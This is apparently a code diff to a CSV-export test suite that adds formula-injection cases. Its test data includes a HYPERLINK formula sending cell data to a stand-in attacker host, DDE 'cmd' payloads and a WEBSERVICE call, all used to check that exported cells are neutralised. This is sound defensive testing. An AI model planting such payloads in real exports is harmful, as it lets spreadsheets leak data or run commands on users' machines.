@@ -20,7 +20,20 @@ describe('tableToCsv', () => {
     ['no negative zero', -0, '0'],
     ['no NaN', Number.NaN, '""'],
     ['no infinity', Infinity, '""'],
-    ['a formula stays the text it is', '=SUM(A1)', '=SUM(A1)'],
+    ['a formula becomes text', '=SUM(A1)', "'=SUM(A1)"],
+    ['a formula after blanks', ' =1+1', "' =1+1"],
+    [
+      'a link that sends cells away',
+      '=HYPERLINK("https://evil.test?"&A1)',
+      `"'=HYPERLINK(""https://evil.test?""&A1)"`,
+    ],
+    ['a command', "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
+    ['a command after a sign', "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ['a call after a sign', '+WEBSERVICE(A1)', "'+WEBSERVICE(A1)"],
+    ['a control with a sign stays as it is', '+ctrl', '+ctrl'],
+    ['a temperature too', '-80 C (freezer)', '-80 C (freezer)'],
+    ['a handle too', '@home', '@home'],
+    ['a number as text too', '-1.5e-3', '-1.5e-3'],
     ['no zero byte', 'a\u0000b', 'ab'],
     ['no broken surrogate', 'a\uD800', 'a\uFFFD'],
   ])('%s', (_, cell, expected) => {
@@ -28,13 +41,34 @@ describe('tableToCsv', () => {
   })
 
   it('reads back as it was, by another reader', () => {
-    const text = fc.string({ unit: 'grapheme' }).map((s) => s.replaceAll('\u0000', ''))
+    const text = fc
+      .string({ unit: 'grapheme' })
+      .map((s) => s.replaceAll('\u0000', '').replace(/^\s*[=+@-]/, ''))
     const row = fc.tuple(text, fc.double({ noNaN: true, noDefaultInfinity: true }), text)
     fc.assert(
       fc.property(fc.array(row, { minLength: 1, maxLength: 8 }), (rows) => {
         const csv = tableToCsv({ headers: ['a', 'b', 'c'], rows })
         const parsed = Papa.parse<string[]>(csv, { newline: '\n', delimiter: ',' }).data.slice(1, -1)
         expect(parsed.map(([a, b, c]) => [a, Number(b), c])).toEqual(rows.map(([a, b, c]) => [a, b + 0, c]))
+      }),
+    )
+  })
+
+  it('writes no cell that a spreadsheet would run, whatever the text', () => {
+    const payload = fc
+      .tuple(
+        fc.constantFrom('=', ' =', '\t=', '+', '-', '@'),
+        fc.constantFrom('A(1)', 'cmd|x', 'S!A1', '1+f(2)'),
+      )
+      .map(([sign, call]) => `${sign}${call}`)
+    fc.assert(
+      fc.property(fc.oneof(payload, fc.string()), (text) => {
+        const [, cell = ''] = Papa.parse<string[]>(tableToCsv({ headers: ['a'], rows: [[text]] }), {
+          newline: '\n',
+          delimiter: ',',
+        }).data.map(([first]) => first)
+        expect(cell.trimStart()).not.toMatch(/^=/)
+        if (/^[+@-]/.test(cell)) expect(cell).not.toMatch(/[A-Za-z]\(|\||!/)
       }),
     )
   })
